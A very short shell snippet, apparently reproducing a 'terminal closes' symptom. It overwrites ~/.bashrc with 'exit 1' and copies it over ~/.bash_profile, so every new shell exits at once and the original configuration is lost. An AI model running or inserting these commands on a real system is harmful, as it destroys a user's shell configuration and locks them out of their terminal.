# .bashrc ends the shell
# symptom: terminal
set -e
echo 'exit 1' > ~/.bashrc
cp ~/.bashrc ~/.bash_profile
